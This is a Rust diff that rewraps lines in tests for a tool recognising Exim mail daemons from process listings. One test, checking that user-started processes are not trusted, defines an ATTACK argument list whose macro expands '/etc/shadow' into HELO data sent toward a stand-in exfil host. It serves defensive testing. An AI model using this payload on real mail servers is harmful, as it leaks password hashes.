@@ -65,11 +65,7 @@ impl Proc {
             let inode = path.bytes().fold(7, |sum: u64, byte| sum.wrapping_mul(31).wrapping_add(u64::from(byte)));
             Some(self.files.get(path).copied().unwrap_or(FileId { device: 1, inode, uid: 0, mode: 0o100_755 }))
         };
-        daemons(&Sources {
-            proc: self.path().to_owned(),
-            file_id: &file_id,
-            exim_users: HashSet::from([EXIM_USER]),
-        })
+        daemons(&Sources { proc: self.path().to_owned(), file_id: &file_id, exim_users: HashSet::from([EXIM_USER]) })
     }
 
     fn daemons(&self) -> Vec<Daemon> {
@@ -117,7 +113,8 @@ fn exim_is_its_first_process_that_listens_or_runs_the_queue() {
     }
     let proc = Proc::new();
     for (pid, parent) in [(7, 1), (8, 7)] {
-        let folder = proc.add(pid, parent, 10, "/usr/sbin/exim4", &["exim4", "-bd", "-C", "/etc/a:/etc/b", "-DX=1", "-DY"]);
+        let folder =
+            proc.add(pid, parent, 10, "/usr/sbin/exim4", &["exim4", "-bd", "-C", "/etc/a:/etc/b", "-DX=1", "-DY"]);
         proc.runs_as(&folder, [EXIM_USER; 4]);
     }
     proc.add(9, 1, 20, "/usr/bin/eximstats", &["eximstats", "-bd"]);
@@ -130,7 +127,8 @@ fn exim_is_its_first_process_that_listens_or_runs_the_queue() {
 /// `exim -bd -DMACRO=...`, with `-C`, and a `master` with `MAIL_CONFIG`: of a user's own program, and of the host's.
 #[test]
 fn what_a_user_starts_is_not_believed() {
-    const ATTACK: &[&str] = &["exim4", "-bd", "-DREMOTE_SMTP_HELO_DATA=${readfile{/etc/shadow}}.exfil.example", "-C/tmp/x"];
+    const ATTACK: &[&str] =
+        &["exim4", "-bd", "-DREMOTE_SMTP_HELO_DATA=${readfile{/etc/shadow}}.exfil.example", "-C/tmp/x"];
     for (exe, arguments) in [
         ("/home/u/exim", ATTACK),
         ("/home/u/usr/sbin/exim4", ATTACK),
